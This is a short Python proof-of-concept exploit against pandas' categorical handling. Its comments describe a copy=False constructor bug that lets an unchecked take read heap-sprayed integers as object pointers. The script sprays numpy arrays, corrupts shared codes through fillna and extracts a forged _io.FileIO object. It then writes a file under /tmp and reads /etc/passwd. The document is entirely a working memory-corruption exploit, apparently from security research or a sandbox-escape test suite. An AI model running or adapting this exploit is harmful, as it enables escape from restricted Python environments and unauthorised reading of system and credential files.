# source: as 016; the share goes through pd.array(values, dtype=CategoricalDtype(...), copy=False) (-> Categorical._from_sequence -> Categorical(copy=False)) and the codes are written by Series.fillna(inplace=True)
# family: copy=False categorical constructor shares codes of a 0-category categorical -> unchecked take reads sprayed words as object pointers (forged static type)
# goal: gets _io.FileIO, writes a file in /tmp and reads it back, reads /etc/passwd
import numpy as np
import pandas as pd

spray = []
for _ in range(64):
    arr = np.empty(112, dtype=object)
    spray.append(arr)
    spray.extend(np.full(112, 0xA3C9C0, dtype=np.int64) for _ in range(4))
reader = pd.Series(pd.Categorical([None] * 4, categories=pd.Index(arr[112:], dtype=object)))
writer = pd.Series(pd.array(reader.values, dtype=pd.CategoricalDtype([f"x{i}" for i in range(126)]), copy=False))
writer.fillna("x120", inplace=True)
print("reader: categories", len(reader.cat.categories), "codes", reader.cat.codes.tolist(), flush=True)
F = reader.to_numpy()[0]
print("object read past 0 categories:", F)
p = chr(47).join(["", "tmp", "w.txt"])
w = F(p, "w")
w.write(b"written through a forged FileIO\n")
w.close()
print(F(p).read().decode(), end="")
print(F(chr(47).join(["", "etc", "passwd"])).read().decode().splitlines()[0])
